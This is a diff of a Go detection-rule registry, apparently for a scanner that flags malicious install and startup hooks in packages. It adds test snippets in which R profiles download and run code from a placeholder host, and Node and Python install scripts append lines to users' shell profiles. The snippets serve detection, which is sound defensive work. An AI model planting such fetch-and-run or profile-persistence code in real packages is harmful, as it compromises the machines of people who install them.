@@ -220,6 +220,8 @@ var registry = []Rule{
 		{"R/zzz.R", ".onLoad <- function(libname, pkgname) {\n  f <- tempfile(fileext = \".R\")\n  download.file(\"https://x.invalid/a.R\", f, quiet = TRUE)\n  source(f)\n}", 4, false},
 		{".Rprofile", "local({\n  f <- tempfile()\n  download.file(\"https://x.invalid/a.sh\", f)\n  system(paste(\"sh\", f), wait = FALSE)\n})", 4, false},
 		{"R/data.R", "f <- tempfile(fileext = \".csv\")\ndownload.file(\"https://x.invalid/d.csv\", f)\nd <- read.csv(f)\nsource(\"R/helpers.R\")", 0, true},
+		// R's source() of a URL fetches the file and runs it.
+		{".Rprofile", "options(repos = c(CRAN = \"https://cloud.r-project.org\"))\ntry(source(\"https://x.invalid/init.R\"), silent = TRUE)", 2, false},
 		// A class's own run method handed downloaded data starts nothing.
 		{"setup.py", "import requests\nclass Sync:\n    def go(self):\n        data = requests.get('https://x.invalid/a.json').json()\n        self.run(data)", 0, true},
 		// A Julia package's deps/build.jl runs at Pkg.build.
@@ -747,6 +749,14 @@ var registry = []Rule{
 			{"lib/x/paths.rb", "rcs = []\nrcs << '~/.bashrc'\nrcs.each { |rc| puts rc }", 0, true},
 			{"x.sh", "echo hi | tee -a ~/.profile", 0, false},
 			{"x.sh", "source ~/.bashrc", 0, true},
+			// A function that appends to the file its parameter names, called
+			// with a profile's path, writes the profile on the call's line.
+			{"scripts/postinstall.js", "const fs = require('fs'), os = require('os'), path = require('path')\nfunction addLine(file, line) {\n  if (!fs.readFileSync(file, 'utf8').includes(line)) fs.appendFileSync(file, line)\n}\nfor (const rc of ['.bashrc', '.zshrc']) {\n  addLine(path.join(os.homedir(), rc), 'x')\n}", 6, false},
+			{"setup.py", "import os\ndef ensure_line(path, line):\n    with open(path, 'a') as f:\n        f.write(line)\nensure_line(os.path.expanduser('~/.profile'), 'x')", 5, false},
+			{"scripts/gen.js", "const fs = require('fs')\nfunction addLine(file, line) {\n  fs.appendFileSync(file, line)\n}\naddLine('CHANGELOG.md', 'x')", 0, true},
+			// R's user profile, written from R: every later R session sources it.
+			{".Rprofile", "local({\n  prof <- path.expand(\"~/.Rprofile\")\n  cat(\"options(x = 1)\", \"\\n\", file = prof, append = TRUE)\n})", 3, false},
+			{"R/zzz.R", "f <- file.path(tempdir(), \"out.csv\")\ncat(\"a,b\\n\", file = f, append = TRUE)", 0, true},
 		}},
 	{"python-pth", KindExecute, High, "installs or writes a .pth file (Python runs its import lines at every start)",
 		"site-packages .pth files are read by every Python interpreter on the machine at start-up, and a line starting with import runs: code that outlives the install, in every later job", []Case{
